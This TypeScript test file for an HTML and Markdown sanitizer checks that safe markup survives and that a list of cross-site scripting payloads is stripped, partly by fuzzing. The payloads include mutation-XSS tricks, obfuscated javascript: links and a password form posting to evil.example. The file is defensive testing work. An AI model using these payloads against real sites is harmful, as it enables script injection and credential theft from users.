/** Cleaned HTML: what stays, and that nothing of what others could write runs, loads, looks like something else or leads astray. */
import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { cleanHtml, cleanMarkdown } from './clean-html.ts';

const tags = new Set(
  'h1 h2 h3 h4 h5 h6 p br hr blockquote pre code ul ol li dl dt dd table caption thead tbody tfoot tr th td strong b em i u s sub sup a'.split(
    ' ',
  ),
);

/** What a browser's own reading would find that must not be there. */
function faultsIn(html: string): readonly string[] {
  const faults: string[] = [];
  const parser = new Parser({
    onopentag: (name, attributes) => {
      if (!tags.has(name)) faults.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (!['href', 'start', 'colspan', 'rowspan'].includes(attribute)) faults.push(`${name} ${attribute}`);
        if (attribute === 'href' && !/^(https?:\/\/|mailto:)/i.test(value)) faults.push(`href ${value}`);
      }
    },
    oncomment: (text) => faults.push(`<!--${text}-->`),
    onprocessinginstruction: (name) => faults.push(name),
  });
  parser.end(html);
  return faults;
}

const hostile = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p onclick="alert(1)" onmouseover=alert(1) style="position:fixed" class=x id=y>text</p>',
  '<img src=x onerror=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" JaVa\tScript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="java&#x0A;script:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="/logout">a</a>',
  '<a href="vbscript:x">a</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data=x><embed src=x></object>',
  '<form action=//evil.example><input name=password><button>ok</button></form>',
  '<base href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=//evil.example>',
  '<style>body{display:none}</style>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><script>alert(1)</script>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<title></title><plaintext><p>x',
  '<a href="https://nordlicht.example" target=_self onclick=x download>a</a>',
];

describe('cleaned HTML', () => {
  it('keeps text, its order and its links', () => {
    const text =
      '<h2>Scope</h2>\n<p>Each <strong>order</strong>, <a href="https://nordlicht.example/a?b=c&amp;d">here</a> or <a href="mailto:a@nordlicht.example">there</a>.</p><ol start="3"><li>one</li></ol><table><tr><td colspan="2">1</td></tr></table>';
    expect(cleanHtml(text)).toBe(text);
    expect(cleanHtml('  <p>a<br>b</p> ')).toMatch(/^<p>a<br ?\/?>b<\/p>$/);
    expect(cleanHtml('a < b & c')).toBe('a &lt; b &amp; c');
  });

  it.each(hostile)('has nothing of %s', (text) => {
    const clean = cleanHtml(text);
    expect(faultsIn(clean)).toEqual([]);
    expect(clean).not.toMatch(/alert\(1\)<\/script|onerror=alert|javascript:/i);
    expect(cleanHtml(clean)).toBe(clean);
  });

  it('has nothing of them either when they stand in each other, cut anywhere', () => {
    const part = fc.oneof(
      fc.constantFrom(...hostile),
      fc.string({ maxLength: 12 }),
      fc.constantFrom('<', '>', '"', '</', '<!--', '-->', '&lt;', '\u0000'),
    );
    const cut = fc
      .tuple(part, fc.nat(60))
      .map(([text, length]) => text.slice(0, text.length - (length % (text.length + 1))));
    fc.assert(
      fc.property(fc.array(fc.oneof(part, cut), { maxLength: 8 }), (parts) => {
        const clean = cleanHtml(parts.join(''));
        expect(faultsIn(clean)).toEqual([]);
        expect(faultsIn(cleanHtml(`<p>${parts.join('<b>')}</p>`))).toEqual([]);
        expect(faultsIn(cleanMarkdown(parts.join('\n\n')))).toEqual([]);
      }),
      { numRuns: 500 },
    );
  });

  it('is soon done with what nests without end', () => {
    expect(cleanHtml('<b>'.repeat(20_000)).length).toBeLessThan(1000);
    expect(cleanMarkdown(`${'> '.repeat(2000)}text`).length).toBeLessThan(100_000);
  });
});

describe('Markdown', () => {
  it('becomes HTML whose own tags are text', () => {
    expect(cleanMarkdown('## Scope\n\nEach **order**, <b onclick=x>now</b>.')).toBe(
      '<h2>Scope</h2>\n<p>Each <strong>order</strong>, &lt;b onclick=x&gt;now&lt;/b&gt;.</p>',
    );
    expect(cleanMarkdown('[a](javascript:alert(1)) ![b](https://nordlicht.example/b.png)')).not.toMatch(
      /<img|href="java/,
    );
  });
});
